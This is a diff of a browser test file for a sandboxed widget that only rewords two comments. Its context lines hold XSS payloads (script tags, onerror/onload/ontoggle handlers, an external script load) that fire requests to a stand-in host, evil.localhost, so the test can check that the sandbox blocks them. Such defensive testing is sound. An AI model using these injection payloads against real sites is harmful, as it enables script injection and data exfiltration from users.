@@ -5,7 +5,7 @@ import { test, type WidgetPage } from '../../support/widget-page.ts'
 const act = `(top.postMessage('ran','*'),new Image().src='http://evil.localhost/ran')`
 const evil = 'http://evil.localhost'
 
-/** Each would run, load, call home or leave, if it were let. */
+/** Each of these tries to run a script, load a resource, send a request or navigate. */
 const attacks: Record<string, string> = {
   scripts: `<script>${act}</script><script src="${evil}/s.js"></script><svg><script>${act}</script></svg>`,
   handlers: `<img src="x" onerror="${act}"><svg onload="${act}"></svg><body onpageshow="${act}"><details open ontoggle="${act}">`,
@@ -53,7 +53,7 @@ for (const mode of ['sealed', 'resources'] as const) {
       const shown = page.frames().find((each) => each.parentFrame() === page.mainFrame())
       expect(shown?.url().replace('#', ''), name).toBe(widget.provider.page('/snapshot', 'inbox'))
     }
-    // Control: a request that an attack would make is noticed.
+    // Control: the test detects a request that an attack would send.
     const control = `${evil}/control`
     await page.evaluate((src) => void Object.assign(new Image(), { src }), control)
     await expect.poll(() => seen).toEqual([control])
